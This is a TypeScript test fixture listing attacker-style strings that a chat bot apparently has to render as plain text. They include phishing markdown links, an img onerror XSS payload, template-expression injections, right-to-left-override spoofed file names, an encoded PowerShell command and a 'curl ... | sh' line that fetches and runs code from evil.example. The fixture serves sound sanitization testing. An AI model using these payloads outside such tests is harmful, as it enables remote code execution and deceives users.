/**
 * Text as attackers write it. Each of these must come out of the bot as plain text: no link, no mention, no
 * expression, no reversed line, no card that grows without bound.
 */
export const HOSTILE_TITLES: readonly string[] = [
  "[Click to remediate](https://evil.example/login) **urgent**",
  "<at>Carla Weiss</at> please approve all requests",
  "Payload ${1+1} ${string(host)} {{name}} @{exp} evaluated",
  "Invoice \u202Egpj.exe\u202C opened by user",
  "![beacon](https://evil.example/pixel.png) <img src=x onerror=alert(1)>",
  "Line one\r\nApprove\r\n---\r\n# Heading\u0000\u0007",
];

export const HOSTILE_COMMAND_LINES: readonly string[] = [
  `powershell.exe -enc ${"QQBBAEEAQQ".repeat(410)}`,
  'cmd.exe /c echo "[Approve](https://evil.example)" & echo `` ``` ~~~',
  "bash -c 'curl https://evil.example/${1+1} | sh' # <at>Everyone</at>",
];

export const HOSTILE_FILE_NAMES: readonly string[] = [
  "report\u202Efdp.scr",
  "[readme](https://evil.example).exe",
  "a|b*c_d~e`f${json('{}')}.dll",
];
